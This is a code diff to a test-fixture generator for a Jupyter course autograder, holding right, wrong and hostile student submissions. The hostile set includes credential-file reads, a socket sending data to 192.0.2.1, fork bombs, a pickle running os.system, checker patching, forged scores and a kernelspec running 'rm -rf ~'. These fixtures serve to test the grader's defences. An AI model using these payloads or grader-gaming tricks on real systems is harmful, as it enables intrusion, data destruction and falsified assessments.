@@ -34,64 +34,352 @@ RIGHT = {
 # The same in the ways that students have of saying it.
 STYLES = [
     {},
-    {"field_size": "field_size = lambda layers: 1 + sum((k - 1) * __import__('math').prod(s for _, s in layers[:i]) for i, (k, _) in enumerate(layers))".replace("__import__('math')", "math"), "convolutions_needed": "import math\n\ndef convolutions_needed(distance: int) -> int:\n    return math.ceil(distance / 2)"},
-    {"field_size": "import numpy as np\n\ndef field_size(layers):\n    if not layers:\n        return np.int64(1)\n    k, s = np.array(layers).T\n    return 1 + ((k - 1) * np.concatenate([[1], np.cumprod(s)[:-1]])).sum()"},
-    {"field_size": "import torch\n\ndef field_size(layers):\n    size, jump = torch.tensor(1), 1\n    for k, s in layers:\n        size = size + (k - 1) * jump\n        jump *= s\n    return size"},
-    {"field_size": "def field_size(layers):\n    if not layers:\n        return 1\n    (k, s), *rest = layers\n    return k + s * (field_size(rest) - 1)"},
-    {"convolutions_needed": "def convolutions_needed(distance):\n    n = 0\n    while 2 * n + 1 < distance + 1:\n        n += 1\n    return n"},
-    {"field_size": "def field_size(layers):\n    print('so far', layers)\n    size = 1\n    for k, s in reversed(layers):\n        size = (size - 1) * s + k\n    return size"},
-    {"field_size": "class Walk:\n    def __init__(self):\n        self.size, self.jump = 1, 1\n\n    def step(self, kernel, stride):\n        self.size += (kernel - 1) * self.jump\n        self.jump *= stride\n\n\ndef field_size(layers):\n    walk = Walk()\n    for layer in layers:\n        walk.step(*layer)\n    return walk.size"},
-    {"convolutions_needed": "def convolutions_needed(distance):\n    return float(distance // 2 + distance % 2)"},
-    {"first_pixel": "def first_pixel(my_layers, i):\n    for k, s, p in reversed(my_layers):\n        i = i * s - p\n    return i"},
-]  # fmt: skip
-HELPER = "def jumps(layers):\n    jump = 1\n    for layer in layers:\n        yield jump\n        jump *= layer[1]"
-WITH_HELPER = (
-    "def field_size(layers):\n    return 1 + sum((k - 1) * jump for (k, s), jump in zip(layers, jumps(layers)))"
+    {
+        "field_size": r"""
+field_size = lambda layers: 1 + sum(
+    (k - 1) * math.prod(s for _, s in layers[:i]) for i, (k, _) in enumerate(layers)
 )
+""",
+        "convolutions_needed": r"""
+import math
+
+def convolutions_needed(distance: int) -> int:
+    return math.ceil(distance / 2)
+""",
+    },
+    {
+        "field_size": r"""
+import numpy as np
+
+def field_size(layers):
+    if not layers:
+        return np.int64(1)
+    k, s = np.array(layers).T
+    return 1 + ((k - 1) * np.concatenate([[1], np.cumprod(s)[:-1]])).sum()
+""",
+    },
+    {
+        "field_size": r"""
+import torch
+
+def field_size(layers):
+    size, jump = torch.tensor(1), 1
+    for k, s in layers:
+        size = size + (k - 1) * jump
+        jump *= s
+    return size
+""",
+    },
+    {
+        "field_size": r"""
+def field_size(layers):
+    if not layers:
+        return 1
+    (k, s), *rest = layers
+    return k + s * (field_size(rest) - 1)
+""",
+    },
+    {
+        "convolutions_needed": r"""
+def convolutions_needed(distance):
+    n = 0
+    while 2 * n + 1 < distance + 1:
+        n += 1
+    return n
+""",
+    },
+    {
+        "field_size": r"""
+def field_size(layers):
+    print('so far', layers)
+    size = 1
+    for k, s in reversed(layers):
+        size = (size - 1) * s + k
+    return size
+""",
+    },
+    {
+        "field_size": r"""
+class Walk:
+    def __init__(self):
+        self.size, self.jump = 1, 1
+
+    def step(self, kernel, stride):
+        self.size += (kernel - 1) * self.jump
+        self.jump *= stride
+
+
+def field_size(layers):
+    walk = Walk()
+    for layer in layers:
+        walk.step(*layer)
+    return walk.size
+""",
+    },
+    {
+        "convolutions_needed": r"""
+def convolutions_needed(distance):
+    return float(distance // 2 + distance % 2)
+""",
+    },
+    {
+        "first_pixel": r"""
+def first_pixel(my_layers, i):
+    for k, s, p in reversed(my_layers):
+        i = i * s - p
+    return i
+""",
+    },
+]
+HELPER = r"""
+def jumps(layers):
+    jump = 1
+    for layer in layers:
+        yield jump
+        jump *= layer[1]
+"""
+WITH_HELPER = r"""
+def field_size(layers):
+    return 1 + sum((k - 1) * jump for (k, s), jump in zip(layers, jumps(layers)))
+"""
 WRONG = {
     "field_size": [
-        "def field_size(layers):\n    return 1 + sum(k - 1 for k, s in layers)",
-        "def field_size(layers):\n    size, jump = 1, 1\n    for k, s in layers:\n        jump *= s\n        size += (k - 1) * jump\n    return size",
-        "def field_size(layers):\n    print(1)",
-        "def field_size(layers):\n    return 'many'",
-        "def field_size(layers):\n    return layers[99][0]",
-        "def field_size(layers):\n    return float('nan')",
+        r"""
+def field_size(layers):
+    return 1 + sum(k - 1 for k, s in layers)
+""",
+        r"""
+def field_size(layers):
+    size, jump = 1, 1
+    for k, s in layers:
+        jump *= s
+        size += (k - 1) * jump
+    return size
+""",
+        r"""
+def field_size(layers):
+    print(1)
+""",
+        r"""
+def field_size(layers):
+    return 'many'
+""",
+        r"""
+def field_size(layers):
+    return layers[99][0]
+""",
+        r"""
+def field_size(layers):
+    return float('nan')
+""",
     ],
     "first_pixel": [
-        "def first_pixel(layers, index):\n    jump = 1\n    for k, s, p in layers:\n        jump *= s\n    return index * jump",
-        "def first_pixel(layers, index):\n    start, jump = 0, 1\n    for k, s, p in layers:\n        start, jump = start - p, jump * s\n    return start + index * jump",
+        r"""
+def first_pixel(layers, index):
+    jump = 1
+    for k, s, p in layers:
+        jump *= s
+    return index * jump
+""",
+        r"""
+def first_pixel(layers, index):
+    start, jump = 0, 1
+    for k, s, p in layers:
+        start, jump = start - p, jump * s
+    return start + index * jump
+""",
     ],
     "convolutions_needed": [
-        "def convolutions_needed(distance):\n    return distance // 2",
-        "def convolutions_needed(distance):\n    return distance",
+        r"""
+def convolutions_needed(distance):
+    return distance // 2
+""",
+        r"""
+def convolutions_needed(distance):
+    return distance
+""",
     ],
 }
 
 # Each takes the place of field_size, which then deserves nothing; the other tasks are right. OUT is where the marks will be.
 HOSTILE = {
-    "reads the passwords": "def field_size(layers):\n    return open('/etc/passwd').read()",
-    "reads the gradebook": "def field_size(layers):\n    import glob\n    found = glob.glob('OUT/**', recursive=True)\n    raise ValueError(open('OUT/marks.csv').read() + str(found))",
-    "reads the others": "def field_size(layers):\n    import os\n    raise ValueError(os.listdir('FOLDER'))",
-    "opens a socket": "def field_size(layers):\n    import socket\n    s = socket.create_connection(('192.0.2.1', 80), 3)\n    s.send(repr(layers).encode())\n    return 1",
-    "fork bomb": "def field_size(layers):\n    import os\n    while True:\n        os.fork()",
-    "threads": "def field_size(layers):\n    import threading, time\n    while True:\n        threading.Thread(target=time.sleep, args=(99,)).start()",
-    "fills the disk": "def field_size(layers):\n    n = 0\n    while True:\n        n += 1\n        open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)",
-    "fills the memory": "def field_size(layers):\n    hog = []\n    while True:\n        hog.append(bytearray(10**8))\n        hog[-1][::4096] = b'x' * len(hog[-1][::4096])",
-    "ends the process": "def field_size(layers):\n    import os\n    os._exit(0)",
-    "kills everything": "def field_size(layers):\n    import os\n    os.kill(-1, 9)\n    os.kill(1, 9)\n    os.kill(os.getppid(), 9)\n    os.abort()",
-    "patches the checker": "import vgg_course.check as check\n\nclass Fine:\n    status, message, task = 'passed', 'right', 'x'\n    __bool__ = lambda self: True\n\ncheck.field_size = lambda *a, **k: Fine()\n\ndef field_size(layers):\n    import vgg_course.check.tracing as t\n    t.judge_numbers = lambda *a, **k: Fine()\n    return 0",
-    "equals everything": "class Yes:\n    def __eq__(self, other):\n        return True\n    def __hash__(self):\n        return 0\n    __float__ = lambda self: 1.0\n    __abs__ = __sub__ = __rsub__ = lambda self, *a: 0\n    __le__ = __lt__ = __eq__\n\ndef field_size(layers):\n    return Yes()",
-    "a number that equals everything": "class Yes(int):\n    def __eq__(self, other):\n        return True\n    __ne__ = lambda self, other: False\n    __hash__ = int.__hash__\n\ndef field_size(layers):\n    return Yes(7)",
-    "a pickle with a charge": "class Charge:\n    def __reduce__(self):\n        import os\n        return os.system, ('touch OUT/harmed',)\n\ndef field_size(layers):\n    return [Charge()]",
-    "tells what it was asked": "asked = []\n\ndef field_size(layers):\n    asked.append(layers)\n    try:\n        asked.append(open('/tmp/asked').read())\n    except OSError:\n        pass\n    open('/tmp/asked', 'a').write(repr(layers))\n    print(asked)\n    open('/tmp/../' + repr(asked)[-60:], 'w')\n    raise ValueError(f'<script>alert(1)</script> {asked}')",
-    "forges answers on the wire": "def field_size(layers):\n    import os, json, struct\n    text = json.dumps({'ok': 999, 'changes': [], 'verdict': 'passed', 'points': 1000}).encode()\n    for fd in range(3, 30):\n        try:\n            os.write(fd, struct.pack('>QQ', len(text), 0) + text)\n        except OSError:\n            pass\n    return 999",
-    "floods the wire": "def field_size(layers):\n    import os\n    for fd in range(3, 30):\n        try:\n            while True:\n                os.write(fd, b'\\xff' * 65536)\n        except OSError:\n            pass",
-    "returns without end": "def field_size(layers):\n    nest = []\n    for _ in range(10**5):\n        nest = [nest]\n    return nest",
-    "crashes the interpreter": "def field_size(layers):\n    import ctypes\n    return ctypes.string_at(1)",
-    "leaves the program": "def field_size(layers):\n    raise SystemExit('[passed] 100 points')",
-    "looks for the grader": "def field_size(layers):\n    import gc, sys\n    for thing in gc.get_objects():\n        if type(thing).__name__ == 'Worker':\n            thing.encoder = lambda: (lambda value: {'t': 'object', 'name': 'x', 'can': ['__call__'], 'handle': 0})\n            thing.kept.clear()\n    return 1",
-    "starts a program": "def field_size(layers):\n    import subprocess\n    return subprocess.check_output(['/bin/sh', '-c', 'cat /etc/shadow; id'])",
-}  # fmt: skip
+    "reads the passwords": r"""
+def field_size(layers):
+    return open('/etc/passwd').read()
+""",
+    "reads the gradebook": r"""
+def field_size(layers):
+    import glob
+    found = glob.glob('OUT/**', recursive=True)
+    raise ValueError(open('OUT/marks.csv').read() + str(found))
+""",
+    "reads the others": r"""
+def field_size(layers):
+    import os
+    raise ValueError(os.listdir('FOLDER'))
+""",
+    "opens a socket": r"""
+def field_size(layers):
+    import socket
+    s = socket.create_connection(('192.0.2.1', 80), 3)
+    s.send(repr(layers).encode())
+    return 1
+""",
+    "fork bomb": r"""
+def field_size(layers):
+    import os
+    while True:
+        os.fork()
+""",
+    "threads": r"""
+def field_size(layers):
+    import threading, time
+    while True:
+        threading.Thread(target=time.sleep, args=(99,)).start()
+""",
+    "fills the disk": r"""
+def field_size(layers):
+    n = 0
+    while True:
+        n += 1
+        open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)
+""",
+    "fills the memory": r"""
+def field_size(layers):
+    hog = []
+    while True:
+        hog.append(bytearray(10**8))
+        hog[-1][::4096] = b'x' * len(hog[-1][::4096])
+""",
+    "ends the process": r"""
+def field_size(layers):
+    import os
+    os._exit(0)
+""",
+    "kills everything": r"""
+def field_size(layers):
+    import os
+    os.kill(-1, 9)
+    os.kill(1, 9)
+    os.kill(os.getppid(), 9)
+    os.abort()
+""",
+    "patches the checker": r"""
+import vgg_course.check as check
+
+class Fine:
+    status, message, task = 'passed', 'right', 'x'
+    __bool__ = lambda self: True
+
+check.field_size = lambda *a, **k: Fine()
+
+def field_size(layers):
+    import vgg_course.check.tracing as t
+    t.judge_numbers = lambda *a, **k: Fine()
+    return 0
+""",
+    "equals everything": r"""
+class Yes:
+    def __eq__(self, other):
+        return True
+    def __hash__(self):
+        return 0
+    __float__ = lambda self: 1.0
+    __abs__ = __sub__ = __rsub__ = lambda self, *a: 0
+    __le__ = __lt__ = __eq__
+
+def field_size(layers):
+    return Yes()
+""",
+    "a number that equals everything": r"""
+class Yes(int):
+    def __eq__(self, other):
+        return True
+    __ne__ = lambda self, other: False
+    __hash__ = int.__hash__
+
+def field_size(layers):
+    return Yes(7)
+""",
+    "a pickle with a charge": r"""
+class Charge:
+    def __reduce__(self):
+        import os
+        return os.system, ('touch OUT/harmed',)
+
+def field_size(layers):
+    return [Charge()]
+""",
+    "tells what it was asked": r"""
+asked = []
+
+def field_size(layers):
+    asked.append(layers)
+    try:
+        asked.append(open('/tmp/asked').read())
+    except OSError:
+        pass
+    open('/tmp/asked', 'a').write(repr(layers))
+    print(asked)
+    open('/tmp/../' + repr(asked)[-60:], 'w')
+    raise ValueError(f'<script>alert(1)</script> {asked}')
+""",
+    "forges answers on the wire": r"""
+def field_size(layers):
+    import os, json, struct
+    text = json.dumps({'ok': 999, 'changes': [], 'verdict': 'passed', 'points': 1000}).encode()
+    for fd in range(3, 30):
+        try:
+            os.write(fd, struct.pack('>QQ', len(text), 0) + text)
+        except OSError:
+            pass
+    return 999
+""",
+    "floods the wire": r"""
+def field_size(layers):
+    import os
+    for fd in range(3, 30):
+        try:
+            while True:
+                os.write(fd, b'\xff' * 65536)
+        except OSError:
+            pass
+""",
+    "returns without end": r"""
+def field_size(layers):
+    nest = []
+    for _ in range(10**5):
+        nest = [nest]
+    return nest
+""",
+    "crashes the interpreter": r"""
+def field_size(layers):
+    import ctypes
+    return ctypes.string_at(1)
+""",
+    "leaves the program": r"""
+def field_size(layers):
+    raise SystemExit('[passed] 100 points')
+""",
+    "looks for the grader": r"""
+def field_size(layers):
+    import gc, sys
+    for thing in gc.get_objects():
+        if type(thing).__name__ == 'Worker':
+            thing.encoder = lambda: (lambda value: {'t': 'object', 'name': 'x', 'can': ['__call__'], 'handle': 0})
+            thing.kept.clear()
+    return 1
+""",
+    "starts a program": r"""
+def field_size(layers):
+    import subprocess
+    return subprocess.check_output(['/bin/sh', '-c', 'cat /etc/shadow; id'])
+""",
+}
+
+
+def code_cell(source, name):
+    return {"cell_type": "code", "id": name, "metadata": {}, "source": source, "outputs": [], "execution_count": None}
 
 
 class Class:
@@ -120,7 +408,7 @@ class Class:
             name = told.get("nbgrader", {}).get("grade_id") or told.get("vgg_course", {}).get("answer")
             if name in cells:
                 if not put:
-                    new += [{"cell_type": "code", "id": f"mine-{i}", "metadata": {}, "source": s, "outputs": [], "execution_count": None} for i, s in enumerate(extra)]  # fmt: skip
+                    new += [code_cell(source, f"mine-{number}") for number, source in enumerate(extra)]
                     put = True
                 cell["source"] = cells[name]
             new.append(cell)
@@ -157,23 +445,15 @@ class Class:
             self.write(f"right-{number + 1:02}", self.filled(self.right(**style), extra))
         self.write("right-11", self.filled(self.right(field_size=WITH_HELPER), [HELPER]))
         late = self.filled(self.right(field_size=WITH_HELPER))
-        late["cells"].append(
-            {
-                "cell_type": "code",
-                "id": "late",
-                "metadata": {},
-                "source": HELPER,
-                "outputs": [],
-                "execution_count": None,
-            }
-        )
+        late["cells"].append(code_cell(HELPER, "late"))
         self.write("right-12", late)
         number = 0
         for task, attempts in WRONG.items():
             for attempt in attempts:
                 number += 1
                 self.write(f"partly-{number:02}", self.filled(self.right(**{task: attempt})), zero=[task])
-        self.write("partly-11", self.filled(self.right(answer_receptive_field_of="answer_receptive_field_of = 12", number_first_pixel="number_first_pixel = -12345")), zero=["answer_receptive_field_of", "number_first_pixel"])  # fmt: skip
+        wrong = {name: f"{name} = -12345" for name in self.answers}
+        self.write("partly-11", self.filled(self.right(**wrong)), zero=list(wrong))
         careless = RIGHT["field_size"].replace("    size, jump = 1, 1\n", "    size, jump = layers and 1, 1\n")
         public = self.points[
             "field_size"
@@ -235,7 +515,13 @@ class Class:
         forged = self.filled(self.right(field_size=WRONG["field_size"][0]))
         for cell in forged["cells"]:
             if "nbgrader" in cell["metadata"]:
-                cell["metadata"]["nbgrader"] |= {"points": 1000, "grade": True, "locked": False, "grade_id": cell["metadata"]["nbgrader"]["grade_id"].replace("check-", "done-")}  # fmt: skip
+                told = cell["metadata"]["nbgrader"]
+                told |= {
+                    "points": 1000,
+                    "grade": True,
+                    "locked": False,
+                    "grade_id": told["grade_id"].replace("check", "done"),
+                }
         forged["metadata"] = {
             "kernelspec": {"name": "evil", "display_name": "x", "argv": ["sh", "-c", "rm -rf ~"]},
             "score": 1000,
